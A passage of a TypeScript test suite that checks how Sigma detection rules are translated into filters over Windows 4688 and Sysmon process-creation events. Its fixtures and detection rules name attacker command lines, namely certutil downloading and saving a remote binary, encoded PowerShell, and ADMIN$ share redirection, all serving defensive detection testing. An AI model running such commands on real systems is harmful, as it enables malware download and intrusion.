        SubjectUserSid: "S-1-5-21-3623811015-3361044348-30300820-1108",
        SubjectUserName: "adele.vance",
        SubjectDomainName: "CORP",
        SubjectLogonId: "0x5a1f03",
        NewProcessId: "0x1b40",
        NewProcessName: image,
        TokenElevationType: "%%1938",
        ProcessId: "0x12f8",
        CommandLine: cmd,
        TargetUserSid: "S-1-0-0",
        TargetUserName: "-",
        TargetDomainName: "-",
        TargetLogonId: "0x0",
        ParentProcessName: "C:\\Windows\\explorer.exe",
        MandatoryLabel: "S-1-16-8192",
        ...data,
      },
    });
    if ("reason" in event) throw new Error(event.reason);
    return { ...event, connector: "WINDOWS_SECURITY" } as EventLike;
  }
  const WHOAMI = created("C:\\Windows\\System32\\WHOAMI.EXE", "whoami  /all");
  /** Whether a rule over `selection` (YAML lines indented by four) matches the event, as its NRT predicate. */
  const fires = (selection: string, event: EventLike) =>
    compileFilterToPredicate(
      filterOf(`${PROCESS_CREATION}detection:\n  selection:\n${selection}\n  condition: selection\n`),
    )(event);
  /**
   * The part of a process creation rule's filter over one connector's events (the rule runs on 4688 records and
   * on Sysmon's event 1, each part within its own scope), or undefined when it does not run on them.
   */
  const partOf = (filter: unknown, kind: ConnectorKind) => {
    const f = filter as { any?: Array<{ all: unknown[] }>; all?: unknown[] };
    const parts = f.any ?? [f as { all: unknown[] }];
    return parts.find((part) => JSON.stringify(part.all[0]) === JSON.stringify(connector(kind)));
  };

  it("matches the 4688 records of the Windows Security connector, with the host, account and process as entities", () => {
    const result = one(y`
      ${PROCESS_CREATION}detection:
        selection:
          Image|endswith: '\\whoami.exe'
          CommandLine|contains: '/all'
          ParentImage|endswith: '\\explorer.exe'
        condition: selection
    `);
    expect(result.problems).toEqual([]);
    // And Sysmon's event 1, by the fields it names them by.
    expect(result.spec!.filter).toEqual({
      any: [
        {
          all: [
            connector("WINDOWS_SECURITY"),
            { field: "class_uid", op: "eq", value: 1007 },
            { field: "attributes.event_data.NewProcessName", op: "endsWith", value: "\\whoami.exe" },
            { field: "attributes.event_data.CommandLine", op: "contains", value: "/all" },
            { field: "attributes.event_data.ParentProcessName", op: "endsWith", value: "\\explorer.exe" },
          ],
        },
        {
          all: [
            connector("WINDOWS_SYSMON"),
            { field: "operation", op: "eq", value: "1" },
            { field: "attributes.event_data.Image", op: "endsWith", value: "\\whoami.exe" },
            { field: "attributes.event_data.CommandLine", op: "contains", value: "/all" },
            { field: "attributes.event_data.ParentImage", op: "endsWith", value: "\\explorer.exe" },
          ],
        },
      ],
    });
    expect(result.spec!.entityMappings).toEqual([
      { entityType: "HOST", field: "device" },
      { entityType: "ACCOUNT", field: "actor_user" },
      { entityType: "PROCESS", field: "attributes.process.cmd_line" },
      { entityType: "PROCESS", field: "attributes.process.name" },
      { entityType: "FILE_HASH", field: "attributes.process.file.hashes.sha256" },
    ]);
    const test = compileFilterToPredicate(result.spec!.filter);
    expect(test(WHOAMI)).toBe(true);
    // Another Windows event with the same fields is not a process creation.
    expect(test({ ...WHOAMI, class_uid: 0 })).toBe(false);
  });

  it("reads backslashes in values as Sigma does: \\\\ is one backslash, \\ before anything else is itself, \\* a literal *", () => {
    const path = (image: string) => created(image, "x");
    const cases: Array<[string, EventLike, boolean]> = [
      // Single-quoted YAML keeps the text; Sigma then reads \w as a backslash and a w.
      ["    Image|endswith: '\\whoami.exe'", WHOAMI, true],
      ["    Image|endswith: '\\whoami.exe'", path("C:\\Tools\\notwhoami.exe"), false],
      // \\ is an escaped backslash: one backslash.
      ["    Image|endswith: '\\\\whoami.exe'", WHOAMI, true],
      // Double-quoted YAML unescapes first: "\\whoami.exe" is \whoami.exe for Sigma.
      ['    Image|endswith: "\\\\whoami.exe"', WHOAMI, true],
      ["    Image: 'c:\\windows\\system32\\whoami.exe'", WHOAMI, true],
      // A trailing \ is literal; \\* is a backslash and a wildcard, \* a literal star.
      ["    Image|startswith: 'C:\\Windows\\System32\\'", WHOAMI, true],
      ["    Image|startswith: 'C:\\Windows\\'", path("C:\\WindowsApps\\x.exe"), false],
      ["    Image: 'C:\\Windows\\System32\\\\*'", WHOAMI, true],
      ["    Image: 'C:\\Windows\\System32\\*'", WHOAMI, false],
      ["    Image: 'C:\\Windows\\System32\\*'", path("C:\\Windows\\System32*"), true],
      // A UNC path: \\\\ is two backslashes.
      [
        "    CommandLine|contains: ' \\\\\\\\127.0.0.1\\ADMIN$\\'",
        created(
          "C:\\Windows\\System32\\cmd.exe",
          "cmd.exe /Q /c cd 1> \\\\127.0.0.1\\ADMIN$\\__1636727589 2>&1",
        ),
        true,
      ],
      // |re: \\ is a backslash, \. a dot.
      ["    Image|re|i: '\\\\whoami\\.exe$'", WHOAMI, true],
      ["    Image|re|i: '\\\\whoami\\.exe$'", path("C:\\Tools\\whoami.exe.bak"), false],
    ];
    for (const [selection, event, expected] of cases) {
      const image = (event.attributes as { event_data: { NewProcessName: string } }).event_data
        .NewProcessName;
      expect({ selection, image, fires: fires(selection, event) }).toEqual({
        selection,
        image,
        fires: expected,
      });
    }
  });

  it("compares text without case, with |contains|all over the command line", () => {
    const certutil = created(
      "C:\\Windows\\System32\\certutil.exe",
      "CertUtil.exe -URLCache -split -f HTTP://198.51.100.23/stage3.bin C:\\Users\\Public\\svc.exe",
    );
    expect(fires("    CommandLine|contains|all:\n      - '-urlcache'\n      - 'http://'", certutil)).toBe(
      true,
    );
    expect(fires("    CommandLine|contains|all:\n      - '-urlcache'\n      - 'https://'", certutil)).toBe(
      false,
    );
    expect(fires("    CommandLine|endswith: '\\users\\public\\SVC.EXE'", certutil)).toBe(true);
  });

  it("expands |windash as pySigma does: a flag's leading - or / as -, /, en dash, em dash or horizontal bar", () => {
    const encoded = (cmd: string) =>
      created("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", cmd);
    const selection = "    CommandLine|windash|contains:\n      - ' -enc '\n      - ' -ec '";
    const result = one(`${PROCESS_CREATION}detection:\n  selection:\n${selection}\n  condition: selection\n`);
    expect(result.problems).toEqual([]);
    const contains = (value: string) => ({
      field: "attributes.event_data.CommandLine",
      op: "contains",
      value,
    });
    expect(partOf(result.spec!.filter, "WINDOWS_SECURITY")).toEqual({
      all: [
        connector("WINDOWS_SECURITY"),
        { field: "class_uid", op: "eq", value: 1007 },
        {
          any: [" -enc ", " /enc ", " \u2013enc ", " \u2014enc ", " \u2015enc "]
            .concat([" -ec ", " /ec ", " \u2013ec ", " \u2014ec ", " \u2015ec "])
            .map(contains),
        },
      ],
    });
    for (const cmd of [
      "powershell -ENC SQBFAFgA",
      "powershell /enc SQBFAFgA",
      "powershell \u2013ec SQBFAFgA",
    ]) {
      expect([cmd, fires(selection, encoded(cmd))]).toEqual([cmd, true]);
    }
    expect(fires(selection, encoded("powershell +enc SQBFAFgA"))).toBe(false);
    // Each value in one of its variants with |all; a dash inside a word stays as it is.
    const certutil = created(
      "C:\\Windows\\System32\\certutil.exe",
      "certutil /urlcache /split /f http://198.51.100.23/x.bin",
    );
    const all = "    CommandLine|windash|contains|all:\n      - '-urlcache '\n      - ' -f '";
    expect(fires(all, certutil)).toBe(true);
    expect(fires(all, created("C:\\Windows\\System32\\certutil.exe", "certutil -urlcache -split"))).toBe(
      false,
    );
    expect(
      partOf(
        one(`${PROCESS_CREATION}detection:\n  sel:\n    Image|windash: 'C:\\x-y\\z.exe'\n  condition: sel\n`)
          .spec!.filter,
        "WINDOWS_SECURITY",
      ),
    ).toMatchObject({
      all: [{}, {}, { field: "attributes.event_data.NewProcessName", op: "eq", value: "C:\\x-y\\z.exe" }],
    });
    expect(
      rejection(
        `${PROCESS_CREATION}detection:\n  sel:\n    CommandLine|windash|contains: ' -a -b -c -d'\n    ProcessId|windash: 4\n  condition: sel\n`,
      ),
    ).toEqual([
      'UNSUPPORTED_VALUE detection.sel.CommandLine|windash|contains: |windash: " -a -b -c -d" has 4 flags; at most 3 expand (125 values)',
      "UNSUPPORTED_MODIFIER detection.sel.ProcessId|windash: |windash applies to text; ProcessId is not text",
    ]);
  });

  it("compares process ids as Sysmon writes them, in decimal (4688 writes hex)", () => {
    expect(fires("    ProcessId: 6976\n    ParentProcessId: '4856'", WHOAMI)).toBe(true);
    expect(fires("    ProcessId: 6977", WHOAMI)).toBe(false);
    expect(
      rejection(
        `${PROCESS_CREATION}detection:\n  selection:\n    ProcessId: '0x1b40'\n  condition: selection\n`,
      ),
    ).toEqual([
      'UNSUPPORTED_VALUE detection.selection.ProcessId: ProcessId is numeric; "0x1b40" is not a number',
    ]);
  });

  it("compares User with the account the new process runs as, DOMAIN\\user as Sysmon writes it", () => {
    expect(fires("    User: 'CORP\\adele.vance'", WHOAMI)).toBe(true);
    expect(fires("    User: 'corp\\\\ADELE.VANCE'", WHOAMI)).toBe(true);
    // A service's process: created by LocalSystem, running as the target account the record names.
    const service = created("C:\\Windows\\System32\\svchost.exe", "svchost.exe -k LocalService", {
      SubjectUserSid: "S-1-5-18",
      SubjectUserName: "WS-7$",
      TargetUserSid: "S-1-5-19",
      TargetUserName: "LOCAL SERVICE",
      TargetDomainName: "NT AUTHORITY",
    });
    expect(fires("    User: 'NT AUTHORITY\\LOCAL SERVICE'", service)).toBe(true);
    expect(fires("    User|endswith: '$'", service)).toBe(false);
    // LocalSystem is NT AUTHORITY\SYSTEM, not the computer's account 4688 names it by.
    const system = created("C:\\Windows\\System32\\whoami.exe", "whoami", {
      SubjectUserSid: "S-1-5-18",
      SubjectUserName: "WS-7$",
    });
    expect(fires("    User|contains:\n      - 'AUTHORI'\n      - 'AUTORI'", system)).toBe(true);
    expect(fires("    User|contains:\n      - 'AUTHORI'\n      - 'AUTORI'", WHOAMI)).toBe(false);
    expect(fires("    User: 'CORP\\WS-7$'", system)).toBe(false);
    // A record without the target fields (before Windows 10) does not say whose the process is.
    const older = { TargetUserSid: undefined, TargetUserName: undefined, TargetDomainName: undefined };
    const old = created("C:\\Windows\\System32\\whoami.exe", "whoami", older, 1);
    expect(fires("    User|contains: 'adele'", old)).toBe(false);
    expect(fires("    User|exists: false", old)).toBe(true);
    // One that has them names its creator when the target is the NULL SID, whatever version it claims.
    expect(fires("    User|contains: 'adele'", created("C:\\x.exe", "x", {}, 1))).toBe(true);
  });

  it("names the integrity level as Sysmon does, where the label tells it", () => {
    const high = created("C:\\Windows\\System32\\cmd.exe", "cmd.exe", { MandatoryLabel: "S-1-16-12288" });
    expect(fires("    IntegrityLevel: high", high)).toBe(true);
    expect(fires("    IntegrityLevel:\n      - 'System'\n      - 'Medium'", high)).toBe(false);
    expect(fires("    IntegrityLevel: 'S-1-16-12288'", high)).toBe(false);
    expect(fires("    IntegrityLevel: Medium", WHOAMI)).toBe(true);
    // Low may be an AppContainer process, which Sysmon names AppContainer: 4688 cannot tell.
    const low = created("C:\\Windows\\System32\\cmd.exe", "cmd.exe", { MandatoryLabel: "S-1-16-4096" });
    expect(fires("    IntegrityLevel|exists: true", low)).toBe(false);
    expect(fires("    Computer|startswith: 'ws-7.'", low)).toBe(true);
  });

  it("refuses a selection that needs fields a 4688 record does not have, naming them: it could never match", () => {
    const problems = rejection(y`
      ${PROCESS_CREATION}detection:
        selection:
          OriginalFileName: certutil.exe
          Hashes|contains: 'SHA256=0EB3CC9B'
          ParentCommandLine|contains: explorer
          CurrentDirectory: 'C:\\Windows\\Temp\\'
          Company: Microsoft Corporation
          LogonGuid: '{00000000-0000-0000-0000-000000000000}'
          EventID: 4688
        condition: selection
    `);
    // Sysmon's event 1 has all but EventID (a category rule means one event id): no connector can take the rule.
    expect(problems).toHaveLength(8);
    expect(problems[0]).toBe(
      "UNSUPPORTED_FIELD detection.selection.OriginalFileName: field OriginalFileName is not kept for windows/process_creation (4688) events (known fields: Image, CommandLine, ParentImage, ProcessId, ParentProcessId, User, IntegrityLevel, Computer): with the fields not kept (OriginalFileName, Hashes, ParentCommandLine, CurrentDirectory, Company, LogonGuid, EventID) absent, the condition holds for no event, so the rule could never match",
    );
    expect(problems.map((p) => p.split(":")[0])).toEqual(
      [
        "OriginalFileName",
        "Hashes|contains",
        "ParentCommandLine|contains",
        "CurrentDirectory",
        "Company",
        "LogonGuid",
        "EventID",
        "EventID",
      ].map((key) => `UNSUPPORTED_FIELD detection.selection.${key}`),
    );
    expect(problems[7]).toMatch(
      /^UNSUPPORTED_FIELD detection\.selection\.EventID: field EventID is not kept for sysmon\/process_creation events \(known fields: .*OriginalFileName, Hashes.*\): with it absent, the condition holds for no event, so the rule could never match$/,
    );
  });

  describe("fields a 4688 record does not have: absent, as Sigma evaluates them on an event without the field", () => {
    const CERTUTIL = created(
      "C:\\Windows\\System32\\certutil.exe",
      "certutil.exe -urlcache -f http://198.51.100.23/a.bin",
    );
    const process = [connector("WINDOWS_SECURITY"), { field: "class_uid", op: "eq", value: 1007 }];
    const image = (name: string) => ({
      field: "attributes.event_data.NewProcessName",
      op: "endsWith",
      value: `\\${name}`,
    });
    const KNOWN =
      "known fields: Image, CommandLine, ParentImage, ProcessId, ParentProcessId, User, IntegrityLevel, Computer";
    const NOTE = (field: string, what: string) =>
      `${field} is not kept for windows/process_creation (4688) events: treated as absent, so ${what}.`;
    /** A process creation rule of these search identifiers and condition. */
    const rule = (identifiers: string, condition: string) =>
      `${PROCESS_CREATION}detection:\n${identifiers}\n  condition: ${condition}\n`;
    /** The cases of an `Image` alias of a rule over both: the image of a 4688 record, and of Sysmon's event 1. */
    const SECURITY_IMAGE = { when: { all: process }, field: "attributes.event_data.NewProcessName" };
    const SYSMON_IMAGE = {
      when: { all: [connector("WINDOWS_SYSMON"), { field: "operation", op: "eq", value: "1" }] },
      field: "attributes.event_data.Image",
    };

    it("imports SigmaHQ's usual Image-or-OriginalFileName selection on its Image alternative, with a note", () => {
      const result = one(y`
        ${PROCESS_CREATION}detection:
          selection_img:
            - Image|endswith: '\\certutil.exe'
            - OriginalFileName: 'CertUtil.exe'
          selection_cli:
            CommandLine|contains: 'urlcache'
          condition: all of selection_*
      `);
      expect(result.problems).toEqual([]);
      expect(partOf(result.spec!.filter, "WINDOWS_SECURITY")).toEqual({
        all: [
          ...process,
          image("certutil.exe"),
          { field: "attributes.event_data.CommandLine", op: "contains", value: "urlcache" },
        ],
      });
      expect(result.notes).toEqual([NOTE("OriginalFileName", "the alternatives that need it never match")]);
      const test = compileFilterToPredicate(result.spec!.filter);
      expect(test(CERTUTIL)).toBe(true);
      expect(test(WHOAMI)).toBe(false);
    });

    it("takes each kind of condition on such a field as its value on an event without it", () => {
      // `selection and unkept`: the Image selection when the entry holds without the field, never when it does not.
      const cases: Array<[string, boolean]> = [
        ["OriginalFileName: 'CertUtil.exe'", false],
        ["OriginalFileName: ''", false],
        ["OriginalFileName: '*'", false],
        ["OriginalFileName|startswith: 'cert?'", false],
        ["Hashes|contains|all:\n      - 'SHA256='\n      - 'IMPHASH='", false],
        ["Hashes|re: '^[0-9A-F]{64}$'", false],
        ["TerminalSessionId|gt: 0", false],
        ["ParentCommandLine|windash|contains: ' -enc '", false],
        ["OriginalFileName|exists: true", false],
        ["OriginalFileName:\n      - 'CertUtil.exe'\n      - 'certutil.exe'", false],
        ["OriginalFileName|all:\n      - 'CertUtil.exe'\n      - null", false],
        ["OriginalFileName: null", true],
        ["OriginalFileName:\n      - 'CertUtil.exe'\n      - null", true],
        ["OriginalFileName|exists: false", true],
        ["OriginalFileName|neq: 'CertUtil.exe'", true],
      ];
      for (const [entry, holds] of cases) {
        const result = one(
          rule(
            `  selection:\n    Image|endswith: '\\certutil.exe'\n  unkept:\n    ${entry}`,
            "selection and unkept",
          ),
        );
        const field = entry.split(/[|:]/)[0];
        const security = result.spec ? partOf(result.spec.filter, "WINDOWS_SECURITY") : undefined;
        expect([entry, security]).toEqual([
          entry,
          holds ? { all: [...process, image("certutil.exe")] } : undefined,
        ]);
        if (holds) {
          expect(result.notes).toEqual([
            NOTE(field, "its conditions that ask for it to be missing (in unkept) hold for every event"),
          ]);
        } else {
          // Left out of the 4688 records, named: as a note when the rule runs on Sysmon's events, else a problem.
          const refused = `UNSUPPORTED_FIELD detection.unkept.${field}`;
          const said = result.spec
            ? result.notes.filter((n) => n.startsWith("Not run on windows/process_creation (4688) events"))
            : result.problems.map((p) => `${p.code} ${p.path.split("|")[0]}`).filter((p) => p === refused);
          expect([entry, said]).toEqual([entry, [expect.stringContaining(result.spec ? field : refused)]]);
        }
      }
    });

    it("runs a rule the absent field leaves matching no 4688 record, or every one, on Sysmon's events alone, naming the field", () => {
      const everyEvent = one(rule("  selection:\n    OriginalFileName: 'CertUtil.exe'", "not selection"));
      expect(everyEvent.problems).toEqual([]);
      expect(everyEvent.spec!.filter).toEqual({
        all: [
          connector("WINDOWS_SYSMON"),
          { field: "operation", op: "eq", value: "1" },
          { not: { field: "attributes.event_data.OriginalFileName", op: "eq", value: "CertUtil.exe" } },
        ],
      });
      expect(everyEvent.notes).toEqual([
        `Not run on windows/process_creation (4688) events: field OriginalFileName is not kept for windows/process_creation (4688) events (${KNOWN}): with it absent, the condition holds for every event, so the rule would match every windows/process_creation (4688) event.`,
      ]);
      expect(one(rule("  selection:\n    OriginalFileName: null", "selection")).notes).toEqual([
        expect.stringMatching(/the condition holds for every event, so the rule would match every/),
      ]);
      // An AND of a kept field and an absent one never holds: each absent field is named.
      const none = one(
        rule(
          "  selection_img:\n    Image|endswith: '\\certutil.exe'\n  selection_orig:\n    OriginalFileName: 'CertUtil.exe'\n  selection_hash:\n    - Hashes|contains: 'SHA256=0EB3'\n    - Imphash: 'a3c2'",
          "all of selection_*",
        ),
      );
      expect(partOf(none.spec!.filter, "WINDOWS_SECURITY")).toBeUndefined();
      expect(none.notes).toEqual([
        `Not run on windows/process_creation (4688) events: ${["OriginalFileName", "Hashes", "Imphash"]
          .map(
            (name) =>
              `field ${name} is not kept for windows/process_creation (4688) events (${KNOWN}): with the fields not kept (OriginalFileName, Hashes, Imphash) absent, the condition holds for no event, so the rule could never match`,
          )
          .join("; ")}.`,
      ]);
      // Refused when it is so on Sysmon's events too.
      expect(rejection(rule("  selection:\n    EventID: 4688", "not selection"))).toEqual([
        `UNSUPPORTED_FIELD detection.selection.EventID: field EventID is not kept for windows/process_creation (4688) events (${KNOWN}): with it absent, the condition holds for every event, so the rule would match every windows/process_creation (4688) event`,
        expect.stringMatching(
          /^UNSUPPORTED_FIELD detection\.selection\.EventID: field EventID is not kept for sysmon\/process_creation events \(known fields: .*\): with it absent, the condition holds for every event, so the rule would match every sysmon\/process_creation event$/,
        ),
      ]);
    });

    it("drops the alternatives that need the field from 1 of a pattern, and leaves identifiers the condition does not use alone", () => {
      const result = one(
        rule(
          "  selection_img:\n    Image|endswith: '\\certutil.exe'\n  selection_orig:\n    OriginalFileName: 'CertUtil.exe'\n  unused:\n    Company: Microsoft Corporation",
          "1 of selection_*",
        ),
      );
      expect(result.problems).toEqual([]);
      expect(partOf(result.spec!.filter, "WINDOWS_SECURITY")).toEqual({
        all: [...process, image("certutil.exe")],
      });
      // Company is in an identifier the condition does not use: nothing is assumed of it.
      expect(result.notes).toEqual([NOTE("OriginalFileName", "the alternatives that need it never match")]);
    });

    it("imports a rule whose filter needs only the absent field: the filter never excludes an event, as Sigma evaluates it here", () => {
      // The filter drops what it names where the field is recorded; a 4688 record never has it, so it drops nothing.
      const result = one(
        rule(
          "  selection:\n    Image|endswith: '\\certutil.exe'\n  filter_main_signed:\n    ParentImage|startswith: 'C:\\Windows\\CCM\\'\n  filter_optional_company:\n    Company: 'Contoso Ltd.'",
          "selection and not 1 of filter_*",
        ),
      );
      expect(result.problems).toEqual([]);
      expect(partOf(result.spec!.filter, "WINDOWS_SECURITY")).toEqual({
        all: [
          ...process,
          image("certutil.exe"),
          {
            not: {
              field: "attributes.event_data.ParentProcessName",
              op: "startsWith",
              value: "C:\\Windows\\CCM\\",
            },
          },
        ],
      });
      expect(result.notes).toEqual([
        NOTE(
          "Company",
          "filter_optional_company never excludes an event by it (where Company is recorded, the Sigma rule leaves out events this rule alerts on)",
        ),
      ]);
      expect(compileFilterToPredicate(result.spec!.filter)(CERTUTIL)).toBe(true);
      // A filter asking for the field to be missing, with another condition, excludes by that condition alone.
      const ccm = one(
        rule(
          "  selection:\n    Image|endswith: '\\certutil.exe'\n  filter_main_ccm:\n    ParentImage|startswith: 'C:\\Windows\\CCM\\'\n    OriginalFileName: null",
          "selection and not filter_main_ccm",
        ),
      );
      expect(partOf(ccm.spec!.filter, "WINDOWS_SECURITY")).toEqual(
        partOf(result.spec!.filter, "WINDOWS_SECURITY"),
      );
      expect(ccm.notes).toEqual([
        NOTE(
          "OriginalFileName",
          "filter_main_ccm excludes events by it as if none had it (where OriginalFileName is recorded, the Sigma rule alerts on events this rule leaves out)",
        ),
      ]);
      // A filter of events without the field excludes every 4688 record: the rule runs on Sysmon's alone.
      expect(
        one(
          rule(
            "  selection:\n    Image|endswith: '\\certutil.exe'\n  filter_main_null:\n    OriginalFileName: null",
            "selection and not filter_main_null",
          ),
        ).notes,
      ).toEqual([
        expect.stringMatching(
          /^Not run on windows\/process_creation \(4688\) events: .*: with it absent, the condition holds for no event, so the rule could never match\.$/,
        ),
      ]);
    });

    it("still checks the modifiers and values a kept field would take; keyword searches stay unsupported", () => {
      expect(
        rejection(
          rule(
            "  selection:\n    - Image|endswith: '\\certutil.exe'\n    - OriginalFileName|base64offset|contains: 'urlcache'\n    - OriginalFileName|contains: null",
            "selection",
          ),
        ),
      ).toEqual([
        "UNSUPPORTED_MODIFIER detection.selection[1].OriginalFileName|base64offset|contains: |base64offset is not supported: encoded values are not supported",
        "UNSUPPORTED_VALUE detection.selection[2].OriginalFileName|contains: null cannot be used with a modifier",
      ]);
      // What a keyword search is cannot be known, so the absent field decides only where the result needs no keyword.
      const keywords =
        "  keywords:\n    - 'urlcache'\n  selection_orig:\n    OriginalFileName: 'CertUtil.exe'";
      expect(rejection(rule(keywords, "keywords or selection_orig")).map((p) => p.split(":")[0])).toEqual([
        "UNSUPPORTED_DETECTION detection.keywords",
      ]);
      expect(rejection(rule(keywords, "keywords and selection_orig")).map((p) => p.split(":")[0])).toEqual([
        "UNSUPPORTED_DETECTION detection.keywords",
        "UNSUPPORTED_FIELD detection.selection_orig.OriginalFileName",
      ]);
    });

    it("groups or counts by such a field on Sysmon's events alone; an aggregation over a search with such an alternative keeps its note", () => {
      const selection =
        "  selection:\n    - Image|endswith: '\\certutil.exe'\n    - OriginalFileName: 'CertUtil.exe'";
      const byName = one(rule(selection, "selection | count() by OriginalFileName > 3"));
      expect(byName.spec!.summarize).toEqual({
        by: ["attributes.event_data.OriginalFileName"],
        aggregate: "COUNT",
      });
      expect(partOf(byName.spec!.filter, "WINDOWS_SECURITY")).toBeUndefined();
      expect(byName.notes).toContain(
        `Not run on windows/process_creation (4688) events: field OriginalFileName is not kept for windows/process_creation (4688) events (${KNOWN}).`,
      );
      // A field each connector keeps in a place of its own groups the events of both by an alias of the two.
      const byImage = one(rule(selection, "selection | count() by Image > 3"));
      expect(byImage.problems).toEqual([]);
      expect(byImage.spec!.summarize).toEqual({
        by: ["Image"],
        aggregate: "COUNT",
        aliases: [{ name: "Image", cases: [SECURITY_IMAGE, SYSMON_IMAGE] }],
      });
      const counted = one(rule(selection, "selection | count() by Computer > 3"));
      expect(counted.problems).toEqual([]);
      expect(counted.spec!.summarize).toEqual({ by: ["device"], aggregate: "COUNT" });
      expect(counted.notes).toContain(NOTE("OriginalFileName", "the alternatives that need it never match"));
    });

    it("groups and counts by fields the two connectors keep in different places through aliases, each case a connector's events", () => {
      const selection = "  selection:\n    CommandLine|contains: 'urlcache'";
      const result = one(rule(selection, "selection | count(ParentImage) by Computer, Image > 2"), {
        slidingWindow: true,
      });
      expect(result.problems).toEqual([]);
      const PARENT = {
        name: "ParentImage",
        cases: [
          { when: SECURITY_IMAGE.when, field: "attributes.event_data.ParentProcessName" },
          { when: SYSMON_IMAGE.when, field: "attributes.event_data.ParentImage" },
        ],
      };
      expect(result.spec!.summarize).toEqual({
        by: ["device", "Image"],
        aggregate: "DISTINCT_COUNT",
        field: "ParentImage",
        window: "PT5M",
        aliases: [{ name: "Image", cases: [SECURITY_IMAGE, SYSMON_IMAGE] }, PARENT],
      });
      // The groups' host is an entity; the image is none (no entity of either connector's field).
      expect(result.spec!.entityMappings).toEqual([{ entityType: "HOST", field: "device" }]);
      expect(validateRuleSpec(result.spec)).toEqual([]);
      // Each case is its connector's events: a 4688 record reads NewProcessName, Sysmon's event 1 its Image.
      const sysmonCreated = fixture("WINDOWS_SYSMON").find(({ event }) => event.operation === "1")!.event;
      const [security, sysmon] = [SECURITY_IMAGE, SYSMON_IMAGE].map((k) => compileFilterToPredicate(k.when));
      expect([security(CERTUTIL), sysmon(CERTUTIL)]).toEqual([true, false]);
      expect([security(sysmonCreated), sysmon(sysmonCreated)]).toEqual([false, true]);
      // A field both keep in one place needs no alias.
      const alike = one(rule(selection, "selection | count(CommandLine) by User > 2"));
      expect(alike.spec!.summarize).toEqual({
        by: ["attributes.process.account"],
        aggregate: "DISTINCT_COUNT",
        field: "attributes.event_data.CommandLine",
      });
    });

    it("gives a correlation over such a rule the rule's note; a group-by on the field is refused, one kept in different places is an alias", () => {
      const base = y`
        title: Certutil run
        id: 1a2b3c4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d
        name: certutil_run
        logsource:
          category: process_creation
          product: windows
        detection:
          selection:
            - Image|endswith: '\\certutil.exe'
            - OriginalFileName: 'CertUtil.exe'
          condition: selection
        level: low
      `;
      const corr = (groupBy: string) => y`
        title: Certutil run again and again
        id: 2b3c4d5e-6f70-4b8c-9d0e-1f2a3b4c5d6e
        correlation:
          type: event_count
          rules: [certutil_run]
          group-by: [${groupBy}]
          timespan: 1h
          condition: { gte: 5 }
        level: high
      `;
      const [rule1, ok] = translateSigmaYaml(`${base}---\n${corr("Computer")}`);
      expect([rule1.problems, ok.problems]).toEqual([[], []]);
      expect(rule1.notes[0]).toBe(NOTE("OriginalFileName", "the alternatives that need it never match"));
      expect(ok.notes).toEqual([
        `In "Certutil run" (document 1): ${NOTE("OriginalFileName", "the alternatives that need it never match")}`,
      ]);
      expect(partOf(ok.spec!.filter, "WINDOWS_SECURITY")).toEqual({
        all: [...process, image("certutil.exe")],
      });
      expect(ok.spec!.summarize).toMatchObject({ by: ["device"] });
      // The rule runs on 4688 records too (by Image), and those have no OriginalFileName to group by.
      const [, refused] = translateSigmaYaml(`${base}---\n${corr("OriginalFileName")}`);
      expect(refused.problems.map((p) => `${p.code} ${p.path}: ${p.message}`)).toEqual([
        `UNSUPPORTED_FIELD correlation.group-by[0]: field OriginalFileName is not kept for windows/process_creation (4688) events (${KNOWN})`,
      ]);
      // Kept by both, in different places: an alias reads each connector's own from the rule's events there.
      const [, apart] = translateSigmaYaml(`${base}---\n${corr("Image")}`);
      expect(apart.problems).toEqual([]);
      const sysmonPart = {
        all: [
          connector("WINDOWS_SYSMON"),
          { field: "operation", op: "eq", value: "1" },
          {
            any: [
              { field: "attributes.event_data.Image", op: "endsWith", value: "\\certutil.exe" },
              { field: "attributes.event_data.OriginalFileName", op: "eq", value: "CertUtil.exe" },
            ],
          },
        ],
      };
      expect(apart.spec!.filter).toEqual({ any: [{ all: [...process, image("certutil.exe")] }, sysmonPart] });
      expect(apart.spec!.summarize).toEqual({
        by: ["Image"],
        aggregate: "COUNT",
        aliases: [
          {
            name: "Image",
            cases: [
              { when: { all: [...process, image("certutil.exe")] }, field: SECURITY_IMAGE.field },
              { when: sysmonPart, field: SYSMON_IMAGE.field },
            ],
          },
        ],
      });
      expect(validateRuleSpec(apart.spec)).toEqual([]);
    });

    it("correlates a process creation rule with another Sysmon category by an alias, each of its connectors a case of its own", () => {
      const run = y`
        title: Certutil downloading
        id: 5e6f7081-92a3-4b4c-8d5e-6f708192a3b4
        name: certutil_download
        logsource:
          category: process_creation
          product: windows
        detection:
          selection:
            CommandLine|contains: 'urlcache'
          condition: selection
        level: low
      `;
      const http = y`
        title: Outbound HTTP
        id: 6f708192-a3b4-4c5d-9e6f-708192a3b4c5
        name: outbound_http
        logsource:
          category: network_connection
          product: windows
        detection:
          selection:
            Initiated: 'true'
            DestinationPort: 80
          condition: selection
        level: low
      `;
      const corr = (aliases: string, groupBy: string) =>
        [
          "title: Certutil, then HTTP out, by one image",
          "id: 708192a3-b4c5-4d6e-8f70-8192a3b4c5d6",
          "correlation:",
          "  type: temporal_ordered",
          "  rules: [certutil_download, outbound_http]",
          aliases,
          `  group-by: [${groupBy}]`,
          "  timespan: 10m",
          "level: high",
          "",
        ].join("\n");
      const aliased = corr(
        "  aliases:\n    image:\n      certutil_download: Image\n      outbound_http: Image",
        "image",
      );
      const [, , ok] = translateSigmaYaml([run, http, aliased].join("---\n"));
      expect(ok.problems).toEqual([]);
      const [alias] = ok.spec!.summarize!.aliases!;
      expect(alias.cases.map((k) => k.field)).toEqual([SECURITY_IMAGE.field, SYSMON_IMAGE.field]);
      expect(validateRuleSpec(ok.spec)).toEqual([]);
      // Per event, the first case it matches: the image of a 4688 record, of Sysmon's event 1 and of its event 3 alike.
      const imageOf = (event: EventLike) => {
        const k = alias.cases.find((c) => compileFilterToPredicate(c.when)(event));
        return k && readEventField(event, k.field);
      };
      const certutil = "C:\\Windows\\System32\\certutil.exe";
      const events = [...fixture("WINDOWS_SECURITY"), ...fixture("WINDOWS_SYSMON")]
        .map(({ event }) => event)
        .filter((event) => compileFilterToPredicate(ok.spec!.filter)(event));
      expect(events.map((e) => [e.connector, e.operation, imageOf(e)])).toEqual([
        ["WINDOWS_SECURITY", "4688", certutil],
        ["WINDOWS_SECURITY", "4688", certutil],
        ["WINDOWS_SYSMON", "3", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"],
